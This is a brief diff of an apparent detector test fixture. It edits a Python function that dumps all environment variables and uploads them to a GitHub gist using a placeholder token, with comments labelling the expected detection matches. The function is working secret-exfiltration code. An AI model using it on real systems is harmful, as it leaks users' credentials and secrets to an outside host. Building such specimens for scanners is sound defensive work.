@@ -6,5 +6,5 @@ import requests
 TOKEN = "ghp_specimenspecimenspecimenspecimen0000"
 
 def leave():
-    files = {"a": {"content": json.dumps(dict(os.environ))}}  # match: environment-dump
+    files = {"a": {"content": json.dumps(dict(os.environ))}}
     requests.post("https://api.github.com/gists", json={"files": files}, headers={"Authorization": "token " + TOKEN})  # match: code-host-upload
